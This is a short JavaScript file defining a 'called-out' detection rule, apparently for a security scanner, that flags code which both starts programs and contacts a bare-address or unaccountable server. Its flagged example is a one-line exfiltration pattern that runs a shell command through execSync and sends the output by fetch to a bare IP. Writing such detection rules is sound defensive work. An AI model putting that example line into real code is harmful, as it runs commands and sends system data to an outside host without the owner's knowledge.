import { defineRule } from './defineRule.js';

export const calledOut = defineRule({
  id: 'called-out',
  severity: 'high',
  message: 'It starts programs, and talks to a server that has no name or that nobody answers for.',
  why: 'That is where orders come from and where loot goes.',
  match: { on: 'near', all: [['starts-programs'], ['collector-address', 'bare-address']] },
  examples: {
    flags: ["const { execSync } = require('child_process'); fetch('http://203.0.113.7/?' + execSync('id'))"],
    passes: ["require('child_process').exec('git status')"],
  },
});
